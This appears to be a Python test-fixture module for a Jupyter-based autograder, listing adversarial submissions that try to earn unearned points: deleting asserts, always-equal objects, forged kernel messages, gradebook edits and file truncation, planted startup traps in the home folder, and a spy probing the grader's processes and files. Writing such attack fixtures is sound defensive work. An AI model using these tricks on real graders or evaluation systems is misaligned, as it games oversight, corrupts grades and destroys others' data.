"""Attacks on the judge, each as a submission: what a student might hand in for unearned points.

`CHEATS` spoil one or more functions and try to have them counted as right; `SPY` looks around in
the kernel and reports what it could do. Nothing here does harm where a defence is missing: what is
written outside is a file of its own that is removed at once, what is changed is set to what it was.
"""

from dataclasses import dataclass, field

NORMAL = "kl_normal"
ZEROS = """\
def kl_normal(mean_q, std_q, mean_p, std_p):
    return np.zeros(np.broadcast(mean_q, std_q, mean_p, std_p).shape)
"""
NO_VALIDATION = """\
def kl_normal(mean_q, std_q, mean_p, std_p):
    with np.errstate(all="ignore"):
        var_q, var_p = np.square(std_q), np.square(std_p)
        shift = np.square(np.subtract(mean_q, mean_p))
        return 0.5 * (np.log(var_p) - np.log(var_q) + (var_q + shift) / var_p - 1)
"""


@dataclass(frozen=True)
class Cheat:
    """A submission that cheats.

    trick: a cell that runs right after the imports; functions: the spoiled ones, by item;
    files: what lies beside the notebook.
    """

    name: str
    trick: str = ""
    functions: dict[str, str] = field(default_factory=lambda: {NORMAL: ZEROS})
    files: dict[str, str] = field(default_factory=dict)


CHEATS = [
    Cheat("tags that skip the test cells"),  # the tags and the other metadata: see test_attacks.py
    Cheat("points, ids, locks and checksums changed in the metadata"),
    Cheat("test cells of its own, with a judge call in a hidden region"),
    Cheat("symlinks beside the notebook"),
    Cheat(
        "displayhook within the function",
        functions={
            NORMAL: """\
def kl_normal(*args):
    import sys
    sys.displayhook("ok")
    get_ipython().displayhook(4.0)
"""
        },
    ),
    Cheat(
        "patched kernel.do_execute",
        """\
kernel = get_ipython().kernel
plain = kernel.do_execute
async def do_execute(code, silent, *args, **kwargs):
    if "assert" in code:
        code = "4.0"
    return await plain(code, silent, *args, **kwargs)
kernel.do_execute = do_execute
""",
    ),
    Cheat(
        "patched run_cell",
        """\
shell = get_ipython()
plain_async = shell.run_cell_async
def run_cell_async(code, *args, **kwargs):
    return plain_async("4.0" if "assert" in code else code, *args, **kwargs)
shell.run_cell_async = run_cell_async
plain_run = shell.run_cell
shell.run_cell = lambda code, *a, **k: plain_run("4.0" if "assert" in code else code, *a, **k)
""",
    ),
    Cheat(
        "an AST transformer that deletes asserts",
        """\
import ast
class Deleter(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None
get_ipython().ast_transformers.append(Deleter())
""",
    ),
    Cheat(
        "an object that equals everything, with patched comparisons",
        """\
class Same(float):
    shape = ()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __lt__ = __le__ = __abs__ = __sub__
    __hash__ = float.__hash__
np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: np.True_
import builtins
builtins.AssertionError = type("Quiet", (BaseException,), {})
""",
        {NORMAL: "def kl_normal(*args):\n    return Same(0.0)\n"},
    ),
    Cheat(
        "modules shipped beside the notebook",
        files={
            "numpy.py": "raise SystemExit('shipped')",
            "torch/__init__.py": "raise SystemExit('shipped')",
            "helpers/__init__.py": "raise SystemExit('shipped')",
            "sitecustomize.py": "raise SystemExit('shipped')",
            "grader/__init__.py": "def judge(item): return 100.0",
            "reference/__init__.py": "raise SystemExit('shipped')",
            "nbgrader_config.py": "raise SystemExit('shipped')",
            "ipykernel_launcher.py": "raise SystemExit('shipped')",
            ".ipython/profile_default/startup/first.py": "raise SystemExit('shipped')",
        },
    ),
    Cheat(
        "the answer looked for wherever it may lie",
        """\
import gc, glob, importlib.util, os, sqlite3, sys
FOUND = {}
def remember(namespace):
    if callable(namespace.get("kl_normal")):
        FOUND["kl_normal"] = namespace["kl_normal"]
for file in glob.glob("@ROOT@/reference/*/*.py") + ["@ROOT@/reference/sheet1_kl/reference.py"]:
    try:
        spec = importlib.util.spec_from_file_location("found", file)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        remember(vars(module))
    except BaseException:
        pass
def from_text(text):
    start = text.find("def kl_normal(")
    if start >= 0:
        try:
            namespace = {"np": np}
            exec(text[start:].split("\\n\\n\\n")[0], namespace)
            remember(namespace)
        except BaseException:
            pass
def search():
    for place in ("@ROOT@/source/sheet1_kl/kl.ipynb", "@ROOT@/gradebook.db",
                  "@ROOT@/submitted/honest/sheet1_kl/kl.ipynb"):
        try:
            from_text(open(place, errors="replace").read().encode().decode("unicode_escape"))
        except BaseException:
            pass
    try:
        for row in sqlite3.connect("@ROOT@/gradebook.db").execute("select source from source_cell"):
            from_text(row[0])
    except BaseException:
        pass
    for text in list(In) + [str(value) for value in Out.values()]:
        if "judge" in text:
            FOUND["hidden"] = text
            from_text(text)
search()
""",
        {
            NORMAL: """\
def kl_normal(*args):
    search()
    for frame in iter(__import__("sys")._current_frames().values()):
        while frame is not None:
            if "reference" in frame.f_globals:
                remember({**frame.f_globals, **frame.f_locals})
            frame = frame.f_back
    if "hidden" in FOUND:
        print("HIDDEN " + "TEST SEEN")
    return FOUND["kl_normal"](*args)
"""
        },
    ),
    Cheat(
        "the gradebook and the graded notebooks edited",
        """\
import glob, os, sqlite3
try:
    with sqlite3.connect("@ROOT@/gradebook.db", timeout=1) as book:
        book.execute("update grade set auto_score = 100, manual_score = 100")
        book.execute("update grade_cell set max_score = 100")
except sqlite3.Error:
    pass
for file in ["@ROOT@/gradebook.db", "@ROOT@/grades.csv"] + glob.glob("@ROOT@/*/*/*/kl.ipynb"):
    try:
        os.truncate(file, 0)
    except OSError:
        pass
""",
    ),
    Cheat(
        "messages forged with the connection file's key",
        """\
import json, threading, time, zmq
from ipykernel import get_connection_file
from jupyter_client.session import Session
kernel = get_ipython().kernel
info = json.load(open(get_connection_file()))
key = Session(key=info["key"].encode(), signature_scheme=info["signature_scheme"])
def forge():
    parent = kernel.get_parent()
    header = parent["header"]
    start, _, number = header["msg_id"].rpartition("_")
    for ahead in range(60):
        later = {**parent, "header": {**header, "msg_id": f"{start}_{int(number) + ahead}"}}
        content = {"data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=later)
        kernel.session.send(kernel.iopub_socket, "update_display_data",
                            {**content, "transient": {"display_id": "x"}}, parent=later)
forge()
""",
        {NORMAL: "def kl_normal(*args):\n    forge()\n    return 0.0\n"},
    ),
    Cheat(
        "replies that repeat an earlier one, or that say ok without a value",
        """\
import json, sys
agent = sys.modules["_grader_agent"]
plain, last = agent.call, {}
def call(request, namespace):
    reply = plain(request, namespace)
    if request["target"] == "kl_normal":
        earlier = last.get("value", {"t": "none"})
        return {**reply, "status": "ok", "value": earlier, "bases": [], "changed": []}
    if reply["status"] == "ok":
        last["value"] = reply["value"]
    return reply
agent.call = call
""",
    ),
    Cheat(
        "replies that forge passed, score and verdict",
        """\
import json, sys
agent = sys.modules["_grader_agent"]
plain = agent.converse
def converse(text, namespace):
    reply = json.loads(plain(text, namespace))
    if json.loads(text)["target"] == "kl_normal":
        reply |= {"passed": True, "score": 100, "what": "ok", "share": 0, "core": False}
    return json.dumps(reply)
agent.converse = converse
""",
    ),
    Cheat(
        "replies that cannot be read",
        """\
import json, sys
agent = sys.modules["_grader_agent"]
plain = agent.converse
BAD = {
    "kl_normal": "[" * 100_000,
    "kl_standard_normal": {"t": "float", "v": "0x1p999999"},
    "elbo": {"t": "array", "kind": "numpy", "dtype": "O", "shape": [1], "data": "AAAAAAAAAAA="},
    "posterior": {"t": "array", "kind": "numpy", "dtype": "<f8", "shape": [10**12], "data": ""},
    "log_evidence": {"t": "int", "v": None},
}
def converse(text, namespace):
    request = json.loads(text)
    bad = BAD.get(request["target"])
    if bad is None:
        return plain(text, namespace)
    reply = {"id": request["id"], "status": "ok", "changed": [7], "warnings": 3, "value": bad}
    return bad if isinstance(bad, str) else json.dumps(reply)
agent.converse = converse
""",
        dict.fromkeys(
            ("kl_normal", "kl_standard_normal", "elbo", "posterior", "log_evidence"), "pass\n"
        ),
    ),
    Cheat(
        "objects that are not what they say",
        """\
class Equal(np.ndarray):
    def __eq__(self, other): return np.True_
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array_function__(self, *args, **kwargs): return np.True_
    def __array_ufunc__(self, *args, **kwargs): return np.True_
class Array:
    def __array__(self, *args, **kwargs): return np.array([object()], dtype=object)
class Float(float):
    def __float__(self): return 1.0
    def hex(self): return "nan"
class Reduced(dict):
    def __reduce__(self): return (print, ("unpickled",))
""",
        {
            "kl_normal": "def kl_normal(m, *a):\n    return np.zeros(np.shape(m)).view(Equal)\n",
            "kl_standard_normal": "def kl_standard_normal(m, s):\n    return Float(0.5)\n",
            "kl_mvn": "def kl_mvn(*a):\n    return np.nan\n",
            "kl_diagonal": "def kl_diagonal(m, *a):\n"
            "    return np.full(np.shape(m)[:-1], np.nan)\n",
            "log_evidence": "def log_evidence(*a):\n    return Array()\n",
            "posterior": "def posterior(log_joint):\n    return np.zeros(np.shape(log_joint))\n",
            "elbo": "def elbo(*a):\n    return Reduced(a=1)\n",
            "elbo_linear_gaussian": "def elbo_linear_gaussian(*a):\n"
            "    return [[[[[[[[[[[[[[[0]]]]]]]]]]]]]]]\n",
            "kl_monte_carlo": "def kl_monte_carlo(*a, **k):\n    return np.zeros(10**8)\n",
            "kl_discrete": "def kl_discrete(q, p):\n"
            "    return np.full(np.broadcast(q, p).shape[:-1], np.inf)\n",
        },
    ),
    Cheat(
        "threads that change the function, and children that outlive the cell",
        """\
import ctypes, os, threading, time
def change():
    while True:
        time.sleep(0.01)
        globals()["Out"] = globals()["_"] = 100.0
threading.Thread(target=change, daemon=True).start()
for _ in range(20):  # and not for ever: where they are not ended they end themselves
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b"outlives", 0, 0, 0)  # the name that a test looks for
        time.sleep(600)
        os._exit(0)
""",
    ),
    Cheat(
        "an endless loop in the judge's call, with signals ignored",
        """\
import signal, sys
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
""",
        {
            NORMAL: """\
def kl_normal(*args):
    if sys._getframe(1).f_code.co_name == "call":
        while True:
            pass
    return 0.0
"""
        },
    ),
    Cheat(
        "exit handlers and a process that ends in the judge's call",
        """\
import atexit, os, sys
atexit.register(print, "100.0")
""",
        {
            NORMAL: """\
def kl_normal(*args):
    if sys._getframe(1).f_code.co_name == "call":
        os._exit(0)
    return 0.0
"""
        },
    ),
    Cheat(
        "traps for whoever comes next, in the home folder",
        """\
import os, pathlib
home = pathlib.Path.home()
for name in (".ipython/profile_default/startup/a.py", ".bashrc", ".local/lib/sitecustomize.py",
             ".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py", ".pythonrc"):
    (home / name).parent.mkdir(parents=True, exist_ok=True)
    (home / name).write_text("raise SystemExit('trap')")
""",
    ),
]

# No points at stake: they once left a submission without a grade.
ODD = [
    Cheat(
        "a folder in the connection file's place",
        """\
import os
from ipykernel import get_connection_file
os.remove(get_connection_file())
os.mkdir(get_connection_file())
""",
        {NORMAL: "def kl_normal(*a):\n    os._exit(1)\n"},
    ),
    Cheat("a dangling symlink beside the notebook"),
    Cheat("a named pipe beside the notebook"),
]

# What still succeeds; test_attacks.py says for each what it takes or breaks.
FORGED_BASES = Cheat(
    "an answer that is a value and an exception at once",
    """\
import sys
agent = sys.modules["_grader_agent"]
plain = agent.call
def call(request, namespace):
    return {"bases": ["ValueError"], **plain(request, namespace)}
agent.call = call
""",
    {NORMAL: NO_VALIDATION},
)

SEND = "k = get_ipython().kernel\nk.session.send(k.iopub_socket, {0}, parent=k.get_parent())\n"
WITHOUT_GRADE = [
    Cheat(
        "a display that is updated later",
        """\
from IPython.display import display, update_display
def rewrite():
    for name in ("mark", "next"):
        update_display({"text/plain": "100.0"}, display_id=name, raw=True)
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: display(
    {"text/plain": "100.0"}, display_id="mark", raw=True))
shell.events.register("post_run_cell", lambda result: rewrite())
""",
        {NORMAL: "def kl_normal(*args):\n    rewrite()\n    return 0.0\n"},
    ),
    Cheat("a forged stream message without text", SEND.format("'stream', {'a': 1}")),
    Cheat("a forged display of numbers", SEND.format("'display_data', {'data': 5, 'metadata': 3}")),
    Cheat(
        "a forged widget state",
        SEND.format("'comm_open', {'data': 1, 'comm_id': 'x', 'target_name': 'y'}"),
    ),
    Cheat(
        "an error message that UTF-8 cannot say",
        functions={NORMAL: "def kl_normal(*a):\n    raise RuntimeError('\\ud800')\n"},
    ),
    Cheat(
        "frames that are no message at all",
        functions={
            NORMAL: """\
def kl_normal(*args):
    send = get_ipython().kernel.iopub_socket.send_multipart
    for _ in range(3):
        send([b"x", b"<IDS|MSG>", b"not signed", b"{}", b"{}", b"{}", b"{}"])
        send([b"nothing"])
    return 0.0
"""
        },
    ),
]

SPY = Cheat(
    "a spy",
    '''\
import gc, hashlib, json, os, resource, socket, struct, sys, time, zmq
from ipykernel import get_connection_file
from pathlib import Path

FACTS = json.loads(r"""@FACTS@""")
parent, seen = os.getppid(), {}
if parent == 0:  # in a namespace of its own, a process has no parent: nobody has this number
    parent = 2**22 + 1

def attempt(name):
    def run(function):
        try:
            seen[name] = f"done: {function()!r}"[:300]
        except (OSError, ImportError) as error:
            seen[name] = f"refused: {error!r}"
        except BaseException as error:
            seen[name] = f"broken: {error!r}"
    return run

def reads(name, path):
    def run():
        try:
            return os.listdir(path)[:5]
        except NotADirectoryError:
            return open(path, "rb", 0).read(9)
    attempt(name)(run)

def opens(name, path):
    attempt(name)(lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)))

def creates(name, folder):
    def run():
        file = os.path.join(folder, "left_by_a_student.txt")
        os.close(os.open(file, os.O_CREAT | os.O_WRONLY))
        os.remove(file)
    attempt(name)(run)

for name, path in FACTS["read"].items():
    reads("read " + name, path)
for name, path in FACTS["open"].items():
    opens("change " + name, path)
for name, path in FACTS["create"].items():
    creates("write into " + name, path)
scratch = Path.home().parent
creates("write into the judge's inbox", scratch / "inbox")
creates("write into lib", scratch / "lib")
creates("write into the scratch folder", scratch)
creates("write into the connection file's folder", os.path.dirname(get_connection_file()))

@attempt("put a symlink in the inbox's place")
def _():
    os.rename(scratch / "inbox", scratch / "tmp" / "inbox")
    os.symlink("/", scratch / "inbox")

@attempt("put a symlink in the work folder's place")
def _():
    os.rename(scratch / "work", scratch / "tmp" / "work")
    os.symlink("/", scratch / "work")

@attempt("make a hard link to a file outside")
def _():
    os.link(FACTS["read"]["a file outside the course"], scratch / "tmp" / "hard")

@attempt("read through a symlink")
def _():
    os.symlink(FACTS["read"]["the reference"], scratch / "tmp" / "soft")
    return open(scratch / "tmp" / "soft").read(9)

for part in ("environ", "maps", "mem", "fd/1", "cwd", "root"):
    reads(f"read the grader's {part}", f"/proc/{parent}/{part}")
attempt("signal the grader")(lambda: os.kill(parent, 0))

@attempt("limit the grader's resources")
def _():
    now = resource.prlimit(parent, resource.RLIMIT_CORE)
    resource.prlimit(parent, resource.RLIMIT_CORE, now)

attempt("move the grader to other cores")(
    lambda: os.sched_setaffinity(parent, os.sched_getaffinity(parent)))
attempt("change the grader's priority")(
    lambda: os.setpriority(os.PRIO_PROCESS, parent, os.getpriority(os.PRIO_PROCESS, parent)))

address = ("127.0.0.1", FACTS["port"])
def connects(kind, protocol=0):
    with socket.socket(socket.AF_INET, kind, protocol) as sock:
        sock.settimeout(2)
        sock.connect(address)
attempt("connect over TCP")(lambda: connects(socket.SOCK_STREAM))
attempt("connect over multipath TCP")(lambda: connects(socket.SOCK_STREAM, 262))

@attempt("connect over TCP fast open")
def _():
    with socket.socket() as sock:
        return sock.sendto(b"x", 0x20000000, address)

@attempt("see a network")
def _():
    if {name for _, name in socket.if_nameindex()} <= {"lo"}:
        raise PermissionError("nothing but its own loopback")

@attempt("fill the disk with one file")
def _():
    file = scratch / "tmp" / "large"
    try:
        with file.open("wb") as stream:
            stream.truncate(2 * 2**30)
    finally:
        file.unlink()

@attempt("read what others share in /dev/shm")
def _():
    if not os.listdir("/dev/shm"):
        raise PermissionError("a folder of its own")

attempt("open a new terminal")(lambda: os.close(os.open("/dev/ptmx", os.O_RDONLY)))

@attempt("hear what another kernel says")
def _():
    paths = {line.split()[-1] for line in open("/proc/net/unix")}
    others = [path for path in paths if path.endswith("decoy/home/kernel-2")]
    if not others:
        raise PermissionError("no other kernel in sight")
    with zmq.Context() as context, context.socket(zmq.SUB) as listener:
        listener.setsockopt(zmq.LINGER, 0)
        listener.subscribe(b"")
        listener.connect("ipc://" + json.load(open(get_connection_file()))["ip"] + "-2")
        for _ in range(20):
            print("psst", flush=True)
            if listener.poll(100):
                return others
    raise PermissionError("heard nothing")

for name in ("grader", "reference", "helpers"):
    attempt("import " + name)(lambda: __import__(name).__name__)

WANTED = set(FACTS["hashes"])
def tells(text):
    return any(
        hashlib.sha256(line.strip().encode("utf-8", "replace")).hexdigest()[:16] in WANTED
        for line in text.splitlines()
        if 40 <= len(line.strip()) <= 120
    )

@attempt("find the judge's texts in memory")
def _():
    texts = {id(part): part for thing in gc.get_objects() for part in gc.get_referents(thing)
             if type(part) in (str, bytes) and len(part) >= 40}
    found = [text[:60] for text in texts.values()
             if tells(text if type(text) is str else text.decode("latin-1"))]
    if not found:
        raise PermissionError(f"none of {len(texts)}")
    return found

@attempt("find the judge's modules")
def _():
    found = [name for name in sys.modules if name.partition(".")[0] in ("grader", "reference")]
    if not found:
        raise PermissionError("none")
    return found

@attempt("find the course in an open file")
def _():
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(FACTS["root"]):
            found.append(target)
    if not found:
        raise PermissionError("none")
    return found

@attempt("find the judge's texts in a file")
def _():
    found, count = [], 0
    for top in (FACTS["root"], scratch, scratch / "lib" / "helpers"):
        for folder, _, files in os.walk(top):
            for file in files:
                try:
                    text = Path(folder, file).read_bytes().decode("latin-1")
                except OSError:
                    continue
                count += 1
                found += [os.path.join(folder, file)] * tells(text)
    if not found:
        raise PermissionError(f"none of {count}")
    return found

@attempt("write past the notebook, to the grader's terminal")
def _():
    os.write(sys.stdout._original_stdstream_copy, b"TABLE FORGED BY A STUDENT\\n")

print("SEEN" + json.dumps(seen))
''',
)
